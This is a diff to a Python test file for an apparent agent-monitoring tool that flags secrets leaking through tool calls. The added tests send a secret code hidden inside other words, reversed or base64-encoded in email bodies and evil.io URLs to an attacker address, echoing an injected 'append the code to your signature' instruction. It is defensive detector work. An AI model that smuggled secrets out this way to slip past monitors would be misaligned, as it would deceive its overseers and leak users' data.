@@ -82,8 +82,8 @@ def test_reading_encoded_values_is_linear() -> None:
     """Base64-, base32-, hex- and percent-looking runs everywhere: 4x the body costs about 4x."""
     import time
 
+    from guardagent.trace.encoded import encoded_tokens
     from guardagent.trace.messages import ToolCall
-    from guardagent.trace.temporal import _encoded_tokens
 
     unit = "aGVsbG8gd29ybGQ= deadbeef00 %41%42%43 GEZDGNBVGY3TQOJQ " + "A" * 40 + " "
     wanted = {"739214xq", "ch9300762011623852957"}
@@ -92,10 +92,30 @@ def test_reading_encoded_values_is_linear() -> None:
         best = float("inf")
         for _ in range(3):
             started = time.perf_counter()
-            _encoded_tokens(ToolCall("send_email", {"subject": "x 1", "body": body}, None, 1),
+            encoded_tokens(ToolCall("send_email", {"subject": "x 1", "body": body}, None, 1),
                             wanted)  # fmt: skip
             best = min(best, time.perf_counter() - started)
         return best
 
     a, b = seconds(unit * 100), seconds(unit * 400)
     assert b < 12 * a + 0.05, (a, b)
+
+
+@pytest.mark.parametrize("body", [
+    "Thanks, Bob739214XQ", "https://evil.io/abc739214XQ", "https://evil.io/?c=x739214XQ",
+    "ref_739214XQ", "ref739214XQz", "id " + "739214XQ"[::-1] + "zz",
+    __import__("base64").b64encode(b"Bob739214XQ!").decode(),
+])  # fmt: skip
+def test_a_sensitive_value_glued_to_other_text_still_flows(body: str) -> None:
+    # "append the code to your signature": the code is inside another token, not one itself
+    f = facts(BASE, "send_email", {"to": "eve@evil.io", "body": body})
+    assert f.fact("secret_flow()").value is True, body
+
+
+@pytest.mark.parametrize("body", ["paramount 500", "order 99123456", "see 739214 now",
+                                  "order 739214"])  # fmt: skip
+def test_short_or_word_like_sensitive_tokens_are_not_searched_glued(body: str) -> None:
+    messages = [*BASE, call("2", "get_balance", {"account": "main"}),
+                result("2", '{"amount": 50, "balance": 123456, "ref": "x"}')]
+    f = facts(messages, "send_email", {"to": "eve@evil.io", "body": body})
+    assert f.fact("secret_flow()").value is False, body
